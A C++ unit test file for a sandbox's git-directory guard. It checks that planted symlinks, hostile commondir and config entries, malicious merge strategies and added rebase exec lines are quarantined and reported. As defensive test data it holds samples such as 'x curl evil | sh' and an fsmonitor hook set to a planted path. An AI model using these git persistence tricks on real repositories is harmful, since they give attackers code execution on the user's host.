// GitGuard (runtime/git_guard.cpp) on a scratch repository, without a
// sandbox: what a command "planted" between the snapshot (constructor) and
// the check (destructor). Symlinks in the git dir must be handled as links:
// the host files they point to are never read, renamed or written.
#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch.hpp>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "runtime/git_guard.hpp"
#include "runtime/git_index.hpp"

using namespace sbx;
using namespace sbx::runtime;
namespace fs = std::filesystem;

namespace {

struct Scratch {
  fs::path root;
  Scratch() {
    char tmpl[] = "/tmp/sbx-unit-gitguard.XXXXXX";
    const char* made = mkdtemp(tmpl);
    if (made == nullptr) throw std::runtime_error("mkdtemp under /tmp failed");
    root = made;
    fs::create_directories(root / "work/.git/hooks");
  }
  ~Scratch() { fs::remove_all(root); }
};

std::string read(const fs::path& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void write(const fs::path& path, const std::string& content) {
  fs::create_directories(path.parent_path());
  std::ofstream(path) << content;
}

// A host directory with files named like the ones the guard looks at.
void make_decoy(const fs::path& dir) {
  for (const char* name : {"config", "commondir", "gitdir", "config.worktree", "hooks/pre-commit"})
    write(dir / name, std::string("decoy ") + name);
}

// Every decoy file is still there with its content; nothing was added.
void check_decoy(const fs::path& dir) {
  for (const char* name : {"config", "commondir", "gitdir", "config.worktree", "hooks/pre-commit"})
    CHECK(read(dir / name) == std::string("decoy ") + name);
  for (const auto& e : fs::recursive_directory_iterator(dir))
    CHECK(e.path().filename().string().find("sbx-quarantine") == std::string::npos);
}

// The entries of `dir` whose name starts with `prefix`.
std::vector<fs::path> named(const fs::path& dir, const std::string& prefix) {
  std::vector<fs::path> found;
  for (const auto& e : fs::directory_iterator(dir))
    if (e.path().filename().string().starts_with(prefix)) found.push_back(e.path());
  return found;
}

struct Guarded {
  Policy policy;
  RunOptions options;
  std::vector<Event> events;
  explicit Guarded(const fs::path& work) {
    policy.filesystem.deny_write = {(work / ".git/hooks").string(),
                                    (work / ".git/config").string()};
    options.on_event = [this](const Event& e) { events.push_back(e); };
  }
  bool reported(const fs::path& path) const {
    for (const auto& e : events)
      if (e.data.value("path", "") == path.string()) return true;
    return false;
  }
};

}  // namespace

TEST_CASE("git guard: links planted in the git dir are quarantined as links, never followed") {
  Scratch s;
  const fs::path work = s.root / "work", git = work / ".git";
  for (const char* d : {"ssh", "aws", "mod", "hooks", "wts/x"}) make_decoy(s.root / d);
  fs::create_directories(git / "modules/real");
  Guarded g(work);
  {
    const GitGuard guard(g.policy, g.options);
    // What the sandboxed command does.
    fs::create_directories(git / "worktrees/c");
    fs::create_symlink(s.root / "ssh", git / "worktrees/a");
    fs::create_symlink(s.root / "aws", git / "worktrees/b");
    write(git / "worktrees/c/commondir", "../..");
    fs::create_symlink(s.root / "mod", git / "modules/m");
    fs::create_symlink(s.root / "hooks", git / "modules/real/hooks");
  }
  for (const char* d : {"ssh", "aws", "mod", "hooks"}) check_decoy(s.root / d);
  for (const fs::path& link :
       {git / "worktrees/a", git / "worktrees/b", git / "modules/m", git / "modules/real/hooks"}) {
    INFO(link);
    CHECK(!fs::exists(fs::symlink_status(link)));
    const auto moved = named(link.parent_path(), link.filename().string() + ".sbx-quarantine-");
    REQUIRE(moved.size() == 1);
    CHECK(fs::is_symlink(moved[0]));
    CHECK(g.reported(link));
  }
  CHECK(!fs::exists(git / "worktrees/c/commondir"));
  CHECK(named(git / "worktrees/c", "commondir.sbx-quarantine-").size() == 1);
  CHECK(g.reported(git / "worktrees/c/commondir"));

  // .git/worktrees itself a link to a host directory.
  Guarded g2(work);
  fs::rename(git / "worktrees", s.root / "old-worktrees");
  {
    const GitGuard guard(g2.policy, g2.options);
    fs::create_symlink(s.root / "wts", git / "worktrees");
  }
  check_decoy(s.root / "wts/x");
  CHECK(!fs::exists(fs::symlink_status(git / "worktrees")));
  CHECK(g2.reported(git / "worktrees"));
}

TEST_CASE(
    "git guard: a changed file is restored in place, a pre-planted quarantine name does "
    "not stop the move") {
  Scratch s;
  const fs::path git = s.root / "work/.git";
  write(git / "config.worktree", "[core]\n");
  fs::permissions(git / "config.worktree", fs::perms(0640));
  Guarded g(s.root / "work");
  {
    const GitGuard guard(g.policy, g.options);
    write(git / "config.worktree", "[core]\n\tfsmonitor = evil\n");
    write(git / "commondir", "../evil");
    // Directories at the names the check would pick (rename() over a
    // directory fails), for every second it could run in.
    const long now =
        static_cast<long>(std::chrono::system_clock::to_time_t(std::chrono::system_clock::now()));
    for (long t = now - 2; t <= now + 30; ++t)
      fs::create_directories(git / ("commondir.sbx-quarantine-" + std::to_string(t)) / "x");
  }
  CHECK(read(git / "config.worktree") == "[core]\n");
  CHECK((fs::status(git / "config.worktree").permissions() & fs::perms::all) == fs::perms(0640));
  CHECK(named(git, "config.worktree.sbx-quarantine-").size() == 1);
  CHECK(!fs::exists(git / "commondir"));
  bool moved = false;
  for (const auto& p : named(git, "commondir.sbx-quarantine-"))
    moved = moved || (fs::is_regular_file(p) && read(p) == "../evil");
  CHECK(moved);
  CHECK(g.reported(git / "commondir"));
}

TEST_CASE(
    "git guard: behind a .git link, the git dir opened at the start is checked, never the "
    "link's target at the end") {
  Scratch s;
  const fs::path work = s.root / "work";
  fs::remove_all(work / ".git");
  const fs::path gitdir = work / "gitdir";
  fs::create_directories(gitdir / "hooks");
  fs::create_directories(gitdir / "objects");
  write(gitdir / "HEAD", "ref: refs/heads/main\n");
  fs::create_symlink("gitdir", work / ".git");
  make_decoy(s.root / "decoy");

  SECTION("a commondir written through the link is quarantined, named by the git dir's path") {
    Guarded g(work);
    {
      const GitGuard guard(g.policy, g.options);
      write(work / ".git/commondir", "/tmp/evil");
      write(work / ".git/worktrees/w/commondir", "/tmp/evil");
    }
    CHECK(!fs::exists(gitdir / "commondir"));
    CHECK(named(gitdir, "commondir.sbx-quarantine-").size() == 1);
    CHECK(g.reported(work / ".git/commondir"));  // named as the user sees it
    CHECK(named(gitdir / "worktrees/w", "commondir.sbx-quarantine-").size() == 1);
    CHECK(fs::is_symlink(work / ".git"));
  }
  SECTION(
      "the git dir moved away and its name made a link to a host dir: the host dir is "
      "untouched, the moved git dir is checked") {
    Guarded g(work);
    {
      const GitGuard guard(g.policy, g.options);
      write(gitdir / "commondir", "/tmp/evil");
      fs::rename(gitdir, work / "gitdir2");
      fs::create_symlink(s.root / "decoy", gitdir);
    }
    check_decoy(s.root / "decoy");
    CHECK(!fs::exists(work / "gitdir2/commondir"));
    CHECK(named(work / "gitdir2", "commondir.sbx-quarantine-").size() == 1);
  }
  SECTION(
      "a git dir outside what the sandbox may write is left alone: a change there is the "
      "host's") {
    const fs::path outside = s.root / "outside.git";
    fs::create_directories(outside / "objects");
    write(outside / "HEAD", "ref: refs/heads/main\n");
    fs::remove(work / ".git");
    fs::create_symlink(outside, work / ".git");
    Guarded g(work);  // no plan given: the work tree alone is writable
    {
      const GitGuard guard(g.policy, g.options);
      write(outside / "worktrees/w/gitdir", "/home/user/w/.git\n");  // `git worktree add`
    }
    CHECK(fs::exists(outside / "worktrees/w/gitdir"));
    CHECK(named(outside / "worktrees/w", "gitdir.sbx-quarantine-").empty());
    // Where the plan says the sandbox may write there, it is checked.
    Guarded g2(work);
    {
      const GitGuard guard(g2.policy, g2.options, [&](const std::string& p) {
        return p == fs::canonical(outside).string() || p == fs::canonical(work).string();
      });
      write(outside / "commondir", "/tmp/evil");
    }
    CHECK(named(outside, "commondir.sbx-quarantine-").size() == 1);
  }
  SECTION("a git dir the sandbox cannot write is not checked (the predicate says so)") {
    Guarded g(work);
    {
      const GitGuard guard(g.policy, g.options, [](const std::string&) { return false; });
      write(gitdir / "commondir", "/tmp/evil");  // the host's doing
    }
    CHECK(fs::exists(gitdir / "commondir"));
    CHECK(named(gitdir, "commondir.sbx-quarantine-").empty());
  }
  SECTION("a gitfile (--separate-git-dir) names the git dir that is checked") {
    fs::remove(work / ".git");
    write(work / ".git", "gitdir: gitdir\n");
    Guarded g(work);
    {
      const GitGuard guard(g.policy, g.options);
      write(gitdir / "commondir", "/tmp/evil");
    }
    CHECK(!fs::exists(gitdir / "commondir"));
    CHECK(named(gitdir, "commondir.sbx-quarantine-").size() == 1);
    CHECK(g.reported(fs::canonical(gitdir) / "commondir"));
  }
  SECTION("a link to something that is no git dir is not followed") {
    fs::remove(work / ".git");
    fs::create_symlink(s.root / "decoy", work / ".git");
    Guarded g(work);
    {
      const GitGuard guard(g.policy, g.options);
      write(s.root / "decoy/config.worktree", "changed on the host meanwhile");
    }
    CHECK(read(s.root / "decoy/config.worktree") == "changed on the host meanwhile");
    CHECK(named(s.root / "decoy", "config.worktree.sbx-quarantine-").empty());
  }
}

TEST_CASE("git guard: a linked worktree's .git in the work tree is checked, one elsewhere not",
          "[git_guard]") {
  Scratch s;
  const fs::path work = s.root / "work", git = work / ".git";
  // Inside the work tree, named relatively (git 2.48's worktree.useRelativePaths).
  write(git / "worktrees/in/gitdir", "../../../.worktrees/in/.git\n");
  write(work / ".worktrees/in/.git", "gitdir: ../../.git/worktrees/in\n");
  // Outside it (absolute, as git 2.39 writes): not the sandbox's to write.
  write(git / "worktrees/out/gitdir", (s.root / "elsewhere/.git").string() + "\n");
  write(s.root / "elsewhere/.git", "gitdir: " + (git / "worktrees/out").string() + "\n");
  Guarded g(work);
  {
    const GitGuard guard(g.policy, g.options);
    write(work / ".worktrees/in/.git", "gitdir: /planted.git\n");
    write(s.root / "elsewhere/.git", "gitdir: /moved/by/the/host\n");
  }
  CHECK(read(work / ".worktrees/in/.git") == "gitdir: ../../.git/worktrees/in\n");
  CHECK(named(work / ".worktrees/in", ".git.sbx-quarantine-").size() == 1);
  CHECK(g.reported(work / ".worktrees/in/.git"));
  CHECK(read(s.root / "elsewhere/.git") == "gitdir: /moved/by/the/host\n");
  CHECK_FALSE(g.reported(s.root / "elsewhere/.git"));
}

TEST_CASE("git guard: exec lines added to a rebase todo are commented out, earlier ones kept",
          "[git_guard]") {
  Scratch s;
  const fs::path git = s.root / "work/.git", todo = git / "rebase-merge/git-rebase-todo";
  // A rebase in progress when the run starts, with an exec line of the user's.
  write(todo, "pick 1111 one\nexec make test\npick 2222 two\n");
  write(git / "worktrees/w/gitdir", "/nonexistent/.git\n");
  Guarded g(s.root / "work");
  {
    const GitGuard guard(g.policy, g.options);
    // Progress (a line done), and planted commands in both forms.
    write(todo, "exec make test\n  x curl evil | sh\r\npick 2222 two\nexec\tpayload\n");
    write(git / "worktrees/w/rebase-merge/git-rebase-todo", "break\nexec payload\n");
  }
  CHECK(read(todo) ==
        "exec make test\n# sbx:   x curl evil | sh\r\npick 2222 two\n# sbx: exec\tpayload\n");
  const auto kept = named(git / "rebase-merge", "git-rebase-todo.sbx-quarantine-");
  REQUIRE(kept.size() == 1);
  CHECK(read(kept[0]) == "exec make test\n  x curl evil | sh\r\npick 2222 two\nexec\tpayload\n");
  CHECK(read(git / "worktrees/w/rebase-merge/git-rebase-todo") == "break\n# sbx: exec payload\n");
  bool commands = false;
  for (const auto& e : g.events) {
    if (e.data.value("change", "") == "exec_added" && e.data.value("path", "") == todo.string())
      commands = e.data["commands"] == nlohmann::json{"  x curl evil | sh", "exec\tpayload"};
  }
  CHECK(commands);
  // Only progress (exec lines done, none new): left alone.
  Guarded g2(s.root / "work");
  {
    const GitGuard guard(g2.policy, g2.options);
    write(todo, "pick 2222 two\n");
  }
  CHECK(read(todo) == "pick 2222 two\n");
  CHECK(g2.events.empty());
  // A todo replaced by a symlink: moved aside as the link, nothing written.
  Guarded g3(s.root / "work");
  {
    const GitGuard guard(g3.policy, g3.options);
    fs::remove(todo);
    fs::create_symlink(s.root / "elsewhere-todo", todo);
  }
  CHECK(!fs::exists(fs::symlink_status(todo)));
  CHECK(g3.reported(todo));
}

TEST_CASE("git guard: a todo's exec line after a long comment or two CRs is still disarmed",
          "[git_guard]") {
  Scratch s;
  const fs::path todo = s.root / "work/.git/rebase-merge/git-rebase-todo";
  write(todo, "pick 1111 one\n");
  Guarded g(s.root / "work");
  const std::string comment = "#" + std::string(2u << 20, 'c') + "\n";
  {
    const GitGuard guard(g.policy, g.options);
    write(todo, comment + "exec ./x;\r\r\npick 1111 one\n");
  }
  // git drops one CR: it would run "./x;\r". Commented out all the same.
  CHECK(read(todo) == comment + "# sbx: exec ./x;\r\r\npick 1111 one\n");
}

TEST_CASE("git guard: a rebase or cherry-pick strategy that names a program is quarantined",
          "[git_guard]") {
  Scratch s;
  const fs::path git = s.root / "work/.git";
  Guarded g(s.root / "work");
  {
    const GitGuard guard(g.policy, g.options);
    write(git / "rebase-merge/strategy", "x/../evil\n");
    write(git / "rebase-merge/git-rebase-todo", "pick 1111 one\n");
    write(git / "sequencer/opts", "[options]\n\tstrategy = x/../evil\n");
  }
  CHECK(!fs::exists(git / "rebase-merge/strategy"));
  CHECK(named(git / "rebase-merge", "strategy.sbx-quarantine-").size() == 1);
  CHECK(g.reported(git / "rebase-merge/strategy"));
  CHECK(!fs::exists(git / "sequencer/opts"));
  CHECK(g.reported(git / "sequencer/opts"));
  CHECK(read(git / "rebase-merge/git-rebase-todo") == "pick 1111 one\n");  // no exec: left
  // Built-in strategies (and options of them) are the rebase's own.
  fs::remove_all(git / "rebase-merge");
  fs::remove_all(git / "sequencer");
  Guarded g2(s.root / "work");
  {
    const GitGuard guard(g2.policy, g2.options);
    write(git / "rebase-merge/strategy", "ort\n");
    write(git / "rebase-merge/strategy_opts", " --theirs\n");
    write(git / "sequencer/opts",
          "[options]\n\tstrategy = recursive\n\tstrategy-option = theirs\n\tno-commit = true\n");
  }
  CHECK(read(git / "rebase-merge/strategy") == "ort\n");
  CHECK(fs::exists(git / "sequencer/opts"));
  CHECK(g2.events.empty());
}

TEST_CASE("git guard: a gitlink kept in a split index's shared index is checked too",
          "[git_guard]") {
  REQUIRE(std::system("git --version >/dev/null 2>&1") == 0);  // scripts/install-deps installs it
  Scratch s;
  const fs::path work = s.root / "work";
  fs::remove_all(work);
  const std::string git = "git -C '" + work.string() + "' -c user.name=u -c user.email=u@e ";
  REQUIRE(std::system(("git init -q '" + work.string() + "'").c_str()) == 0);
  REQUIRE(std::system((git + "commit -q --allow-empty -m init").c_str()) == 0);
  // A gitlink, then the index split: the gitlink sits in sharedindex.HASH.
  REQUIRE(std::system((git + "update-index --add --cacheinfo "
                             "160000,1111111111111111111111111111111111111111,sub")
                          .c_str()) == 0);
  REQUIRE(std::system((git + "update-index --split-index").c_str()) == 0);
  const std::string index = read(work / ".git/index");
  const auto parsed = parse_git_index(index, 20);
  CHECK(parsed.gitlinks.empty());
  REQUIRE(parsed.shared_index.size() == 40);
  CHECK(fs::exists(work / (".git/sharedindex." + parsed.shared_index)));
  fs::create_directories(work / "sub");
  Guarded g(work);
  {
    const GitGuard guard(g.policy, g.options);
    write(work / "sub/.git/config", "[core]\n\tfsmonitor = /planted\n");
  }
  CHECK(!fs::exists(work / "sub/.git/config"));
  CHECK(g.reported(work / "sub/.git"));
}

TEST_CASE("git index reader survives random and mutated input (smoke fuzz)", "[git_guard][fuzz]") {
  REQUIRE(std::system("git --version >/dev/null 2>&1") == 0);
  Scratch s;
  const fs::path work = s.root / "work";
  fs::remove_all(work);
  const std::string git = "git -C '" + work.string() + "' ";
  REQUIRE(std::system(("git init -q '" + work.string() + "'").c_str()) == 0);
  REQUIRE(
      std::system((git +
                   "update-index --add --cacheinfo "
                   "160000,1111111111111111111111111111111111111111,a/sub && " +
                   git + "update-index --index-version 4 && " + git + "update-index --split-index")
                      .c_str()) == 0);
  const std::string seed = read(work / ".git/index");
  std::mt19937 rng(11);
  for (int round = 0; round < 20000; ++round) {
    std::string in = seed;
    if (round % 3 == 0) {
      in.resize(rng() % 200);
      for (auto& c : in) c = static_cast<char>(rng());
      if (in.size() >= 4) in.replace(0, 4, "DIRC");
    } else {
      for (int k = 0; k < 3; ++k) in[rng() % in.size()] = static_cast<char>(rng());
    }
    const auto index = parse_git_index(in, round % 5 == 0 ? 32 : 20);
    CHECK((index.shared_index.empty() || index.shared_index.size() == 40 ||
           index.shared_index.size() == 64));
  }
}
